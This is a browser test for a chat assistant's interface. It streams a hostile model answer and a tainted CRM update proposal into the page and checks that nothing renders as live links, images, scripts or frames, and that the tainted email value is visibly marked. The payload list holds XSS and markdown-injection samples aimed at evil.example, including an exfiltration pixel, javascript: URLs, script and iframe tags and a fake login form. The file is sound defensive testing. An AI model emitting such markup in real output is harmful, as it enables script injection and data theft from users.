// What a hostile model would say, and a card with values out of a hostile text, fed to the chat as the server would stream
// them: nothing of it may become a link, a picture, a script or a frame, and what is tainted must be seen.

import assert from "node:assert/strict";

const ELSEWHERE = "evil.example";

/** Each must stand on the page as it is written here. */
const SAID = [
  `[Log in again](https://${ELSEWHERE}/login?u=admin)`,
  `![status](https://${ELSEWHERE}/pixel.png?d=secret)`,
  `<https://${ELSEWHERE}/auto>`,
  `[help]: https://${ELSEWHERE}/help`,
  `[now](javascript:window.hostile=1)`,
  `<a href="javascript:window.hostile=1">Continue</a>`,
  `<img src="https://${ELSEWHERE}/x.png" onerror="window.hostile=1">`,
  `<script>window.hostile=1</script>`,
  `<iframe src="https://${ELSEWHERE}"></iframe>`,
  `<form action="https://${ELSEWHERE}"><input name="password"></form>`,
  `<svg onload="window.hostile=1"></svg>`,
  `https://${ELSEWHERE}/bare`,
];

const CONVERSATION = "0190a000-0000-7000-8000-000000000001";
const RECORD = "0190a000-0000-7000-8000-000000000002";
const TAINTED = `billing@${ELSEWHERE}`;

/** As paragraphs, in bold, as a list and in a table. */
const answer = [
  ...SAID,
  ...SAID.slice(0, 3).map((text) => `**${text}**`),
  SAID.map((text) => `- ${text}`).join("\n"),
  `| What | Where |\n| --- | --- |\n| ${SAID[0]} | ${SAID[6]} |`,
].join("\n\n");

const proposal = {
  id: "0190a000-0000-7000-8000-000000000003",
  steps: [{ command: "crm.party.update", arguments: { party: RECORD, email: TAINTED, phone: "040 123456", note: "$100 discount", code: "1.10", website: RECORD, kind: "constructor" } }],
  titles: { [RECORD]: "Albers" },
  tainted: [{ step: 0, path: "email", value: TAINTED, why: "text", source: { resource: "documents.document", id: "javascript:window.hostile=1//", title: SAID[6] } }],
  preview: {
    risk: "low",
    changes: [
      { resource: "crm.party", id: RECORD, field: "email", old: "office@albers.example", new: TAINTED },
      { resource: "crm.party", id: RECORD, field: "phone", old: null, new: "040 123456" },
      { resource: "crm.party", id: RECORD, field: "note", old: null, new: SAID[5] },
    ],
    effects: [SAID[7]],
    warnings: [SAID[8]],
  },
};

const events = [
  ["start", { conversation_id: CONVERSATION, message_id: "0190a000-0000-7000-8000-000000000004" }],
  ...answer.match(/[^]{1,40}/g).map((delta) => ["text", { delta }]),
  ["citation", { ref: 1, resource: "crm.party", id: `//${ELSEWHERE}/x`, title: SAID[6], field: "note", quote: SAID[5], mark: `"><script>window.hostile=1</script>` }],
  ["citation", { ref: 2, resource: `https://${ELSEWHERE}`, id: "javascript:window.hostile=1", title: SAID[0] }],
  ["proposal", proposal],
  ["done", { answer, figures: [{ query: SAID[6] }], degraded: false }],
];

export async function hostileAnswersStayText(page, base, shot) {
  const requested = [];
  page.on("request", (request) => requested.push(request.url()));
  await page.goto(`${base}/app/chat`);
  const body = events.map(([name, data], at) => `id: ${at + 1}\nevent: ${name}\ndata: ${JSON.stringify(data)}\n\n`).join("");
  await page.route("**/api/v1/assistant/messages", (route) => route.fulfill({ contentType: "text/event-stream", body }));
  await page.route(`**/api/v1/assistant/proposals/${proposal.id}`, (route) => route.fulfill({ json: { ...proposal, state: "open", token: "not-a-token" } }));
  await page.fill("#message", "What does the document say?");
  await page.press("#message", "Enter");
  const said = page.locator("article.steward-said:not(.is-own)");
  await said.locator("[data-answer]:not(.steward-busy)").waitFor();
  await said.locator("[data-confirm]").waitFor();
  await said.locator("details summary").click();
  await shot(page, "chat-hostile");

  // The answer itself: text and nothing else, all of it.
  const shown = said.locator("[data-answer]");
  assert.equal(await shown.locator("a, img, picture, video, script, iframe, object, embed, form, input, svg, link, style, base, meta").count(), 0, "what is said is text");
  const text = await shown.evaluate((node) => node.textContent);
  for (const part of SAID) assert.ok(text.includes(part), `${part} stands there as it was said: ${text}`);

  // The card and the sources around it: links of ours lead into our own pages, and nothing else is alive.
  assert.equal(await said.locator("img, picture, script, iframe, object, embed, form, svg:not(.icon)").count(), 0, "nothing of a card or a source is rendered");
  const links = await said.locator("a").evaluateAll((nodes) => nodes.map((node) => node.href));
  assert.ok(links.length > 0, "a source of ours can be opened");
  for (const link of links) assert.ok(link.startsWith(`${base}/app/`), `${link} leads elsewhere`);
  const handlers = await said.evaluate((root) => [...root.querySelectorAll("*")].flatMap((node) => node.getAttributeNames().filter((name) => name.startsWith("on"))));
  assert.deepEqual(handlers, [], "no element runs anything");

  // What comes from a text is marked where its source is told and where the change is shown, so that one sees it.
  const card = said.locator("[data-proposal]");
  const mark = card.locator("li[data-tainted='email']");
  assert.ok((await mark.isVisible()) && (await mark.innerText()).includes(TAINTED), "the tainted argument is told with its value");
  const tainted = card.locator("td.steward-tainted");
  assert.deepEqual(await tainted.allInnerTexts(), [TAINTED, TAINTED], "the tainted value is marked as an argument and in the change, and no other");
  const look = (cell) => cell.evaluate((node) => {
    const style = getComputedStyle(node);
    return [style.backgroundColor, style.borderColor, style.boxShadow, style.outlineStyle, style.color, style.textDecorationLine].join(" ");
  });
  // A text reads as it was written, whatever it looks like; only what names a record is shown as one.
  const given = await card.locator(".steward-arguments td").allInnerTexts();
  assert.deepEqual(given, ["Albers", TAINTED, "040 123456", "$100 discount", "1.10", RECORD, "constructor"], "what will be filled in is shown to the letter");
  const plain = await look(card.locator("td.steward-new:not(.steward-tainted)").first());
  for (const cell of await tainted.all()) assert.notEqual(await look(cell), plain, "the mark can be seen");

  assert.equal(await page.evaluate(() => window.hostile), undefined, "nothing of it ran");
  assert.deepEqual(requested.filter((url) => url.includes(ELSEWHERE)), [], "nothing of it was asked for");
  await page.unroute("**/api/v1/assistant/messages");
  await page.unroute(`**/api/v1/assistant/proposals/${proposal.id}`);
}
